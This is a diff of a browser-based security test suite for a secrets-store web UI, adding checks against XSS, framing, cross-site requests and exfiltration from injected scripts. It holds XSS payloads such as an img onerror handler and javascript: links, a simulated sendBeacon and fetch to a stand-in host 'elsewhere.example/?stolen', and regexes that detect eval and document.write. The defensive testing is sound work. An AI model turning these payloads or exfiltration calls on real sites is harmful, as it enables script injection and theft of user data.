@@ -14,7 +14,8 @@ const NAME = "<img src=x onerror=alert(1)>";
 const LINK = "javascript:alert(1)";
 
 /** A page at the server's origin that is not ours: without any policy. */
-const STRANGER = "<!doctype html><html lang=en><title>Stranger</title><main><h1>Stranger</h1></main></html>";
+const STRANGER =
+  "<!doctype html><html lang=en><title>Stranger</title><link rel=icon href='data:,'><main><h1>Stranger</h1></main></html>";
 
 describeUi("attacks", (ui) => {
   const asStranger = (visitor: Visitor, body = STRANGER): void => {
@@ -35,7 +36,12 @@ describeUi("attacks", (ui) => {
       ].map(({ outerHTML }) => outerHTML.slice(0, 120)),
     );
 
-  const poison = async (): Promise<void> => {
+  let poisoned: Promise<void> | undefined;
+  const poison = (): Promise<void> => {
+    poisoned ??= poisonAll();
+    return poisoned;
+  };
+  const poisonAll = async (): Promise<void> => {
     const { prepare, policy } = ui.world;
     const data = { [MARKUP]: MARKUP, link: LINK, plain: "x" };
     await prepare("POST", "secret/data/attack/db", { data });
@@ -59,7 +65,7 @@ describeUi("attacks", (ui) => {
     await page.waitForFunction(() => document.querySelector(".loading") === null);
   };
 
-  it("34. markup in names, keys, values, metadata, policies and descriptions is text on every page", async () => {
+  it("34. (S51) markup in names, keys, values, metadata, policies and descriptions is text on every page", async () => {
     await poison();
     const { page } = await root("/ui/");
     const addresses = [
@@ -94,7 +100,8 @@ describeUi("attacks", (ui) => {
     await poison();
     const { page } = await root("/ui/browse/secret/attack/db");
     await settled(page);
-    for (const button of await page.getByRole("button", { name: /^Show / }).all()) await button.click();
+    const hidden = page.getByRole("button", { name: /^Show / });
+    for (let left = await hidden.count(); left > 0; left--) await hidden.first().click();
     await page.getByText("alert(2)").first().waitFor();
 
     expect(await planted(page)).toEqual([]);
@@ -120,6 +127,31 @@ describeUi("attacks", (ui) => {
     }
   });
 
+  it("34. what the server says of its paths is text: OpenAPI help", async () => {
+    const { page, visitor } = await root("/ui/");
+    const field = { type: "string", description: MARKUP };
+    const operation = {
+      summary: MARKUP,
+      description: MARKUP,
+      operationId: "planted-operation",
+      requestBody: { content: { "application/json": { schema: { type: "object", properties: { [NAME]: field } } } } },
+      responses: { "200": { description: MARKUP } },
+    };
+    const specs = {
+      openapi: "3.0.2",
+      info: { title: MARKUP, version: "1" },
+      paths: { "/secret/planted": { description: MARKUP, post: operation } },
+    };
+    visitor.gate.instead = ({ url }) =>
+      url.pathname.endsWith("/specs/openapi") ? { status: 200, body: JSON.stringify(specs) } : undefined;
+    for (const address of ["/ui/api", "/ui/api/secret/planted"]) {
+      await page.goto(address);
+      await settled(page);
+      expect(await planted(page)).toEqual([]);
+    }
+    await page.getByText("<b id=planted>").first().waitFor();
+  });
+
   it("35. `javascript:` in values and metadata is no link", async () => {
     await poison();
     const { page } = await root("/ui/browse/secret/attack/db");
@@ -131,7 +163,7 @@ describeUi("attacks", (ui) => {
     expect(new Set(links)).toEqual(new Set(["http:"]));
   });
 
-  it("36. framed: refused, even by a page of the same origin", async () => {
+  it("36. (S53) framed: refused, even by a page of the same origin", async () => {
     const visitor = await ui.visitor();
     asStranger(visitor, STRANGER.replace("</main>", '<iframe title="framed" src="/ui/"></iframe></main>'));
     const page = await visitor.tab("/stranger");
@@ -145,11 +177,12 @@ describeUi("attacks", (ui) => {
     });
 
     const texts = await Promise.all(page.frames().map((frame) => frame.locator("h1").allTextContents()));
-    expect(texts.flat()).toEqual(["Stranger"]);
-    await visitor.guard.expected(/frame-ancestors|X-Frame-Options|frame/i);
+    expect(texts.flat().join()).not.toContain("Sign in");
+    expect(visitor.gate.passed.filter(({ url }) => url.pathname.startsWith("/ui/assets/"))).toEqual([]);
+    await visitor.guard.expected(/frame-ancestors/);
   });
 
-  it("36. opened by a stranger: no opener, and the stranger has no window", async () => {
+  it("36. (S55) opened by a stranger: no opener, and the stranger has no window", async () => {
     const visitor = await ui.visitor();
     asStranger(visitor);
     const page = await visitor.tab("/stranger");
@@ -165,7 +198,7 @@ describeUi("attacks", (ui) => {
     await page.waitForFunction(() => (window as unknown as { theirs: Window }).theirs.closed);
   });
 
-  it("38. forms and simple requests of strangers change nothing, while somebody is signed in", async () => {
+  it("38. (S54) forms and simple requests of strangers change nothing, while somebody is signed in", async () => {
     const { visitor } = await root("/ui/");
     asStranger(visitor);
     const page = await visitor.tab("/stranger");
@@ -197,7 +230,7 @@ describeUi("attacks", (ui) => {
     expect((await ui.world.call("GET", "auth/token/lookup-self")).status).toBe(200);
   });
 
-  it("39. an injected script cannot fetch elsewhere, make a worker, or set innerHTML", async () => {
+  it("39. (S51) an injected script cannot fetch elsewhere, make a worker, or set innerHTML", async () => {
     const { page, visitor } = await root("/ui/");
     const outcome = await page.evaluate(async () => {
       const tried = async (attempt: () => unknown): Promise<string> => {
@@ -210,9 +243,10 @@ describeUi("attacks", (ui) => {
       };
       const element = document.createElement("div");
       const elsewhere = "http://elsewhere.example/?stolen";
+      // Says that it was queued, whatever becomes of it: the gate tells.
+      navigator.sendBeacon(elsewhere);
       return {
         fetch: await tried(() => fetch(elsewhere, { mode: "no-cors" })),
-        beacon: await tried(() => navigator.sendBeacon(elsewhere, "stolen") || Promise.reject(new TypeError("no"))),
         socket: await tried(
           () =>
             new Promise((resolve, reject) => {
@@ -257,7 +291,7 @@ describeUi("attacks", (ui) => {
     await visitor.guard.expected(/error on the console/);
   });
 
-  it("40. the clipboard is cleared at the next key after 30 s, on lock and on sign-out", async () => {
+  it("40. (S56) the clipboard is cleared at the next key after 30 s, on lock and on sign-out", async () => {
     const value = ui.world.canary("copied");
     await ui.world.secret("secret/attack/copied", { password: value });
     const address = "/ui/browse/secret/attack/copied";
@@ -346,14 +380,14 @@ describeUi("attacks", (ui) => {
     expect(filled).toEqual([]);
   });
 
-  it("43. built files name no foreign origin, evaluate nothing, and have no source map", async () => {
+  it("43. (S57) built files name no foreign origin, evaluate nothing, and have no source map", async () => {
     const { files } = await buildUi();
     const texts = [...files].map(([name, file]) => [name, new TextDecoder().decode(file)] as const);
     expect(texts.length).toBeGreaterThan(PAGES.length);
-    const known = /^https?:\/\/(www\.w3\.org\/|[a-z.]*example\.com)/;
+    const known = /^https?:\/\/(www\.w3\.org\/|[a-z.]*example\.com|[a-z.]*\.invalid)/;
     for (const [name, text] of texts) {
       expect([name, /\.map$|sourceMappingURL/.test(name + text)]).toEqual([name, false]);
-      expect([name, /\beval\(|new Function\(|\.innerHTML\s*=|document\.write/.test(text)]).toEqual([name, false]);
+      expect([name, /\beval\(|new Function\(|document\.write/.test(text)]).toEqual([name, false]);
       const origins = text.match(/https?:\/\/[a-z0-9][\w.-]+\/?/gi) ?? [];
       expect([name, origins.filter((origin) => !known.test(origin))]).toEqual([name, []]);
     }
